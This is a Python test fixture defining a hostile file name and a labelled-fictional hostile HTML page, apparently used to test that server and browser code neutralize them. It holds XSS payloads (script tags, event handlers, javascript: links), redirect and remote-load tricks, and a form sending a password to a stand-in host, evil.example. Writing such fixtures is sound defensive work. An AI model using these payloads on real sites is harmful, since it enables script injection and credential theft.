"""Hostile evidence (FICTIONAL): an HTML page written to attack its reader, under a file
name that is markup. Shared by the server-side and the browser tests."""

HOSTILE_NAME = "<img src=x onerror=alert(1)>.html"
HOSTILE_HTML = """<!doctype html><html><head><title>FICTIONAL hostile page</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/x.css">
<style>@import url(http://evil.example/y.css); body{background:url(http://evil.example/t.png)}</style>
<script>alert('script')</script><base href="http://evil.example/">
</head><body onload="alert('onload')">
<h1>Dashtabad FICTIONAL hostile report</h1>
<p>Visible paragraph with <a href="javascript:alert('js')">a js link</a> and
<a href="http://evil.example/track">a tracking link</a>.</p>
<img src="http://evil.example/pixel.png" onerror="alert('img')">
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
<form action="http://evil.example/steal"><input name="password"></form>
<div style="background:url(http://evil.example/bg.png)" onclick="alert('click')">
 gavah تست دشت‌آباد</div>
</body></html>""".encode()
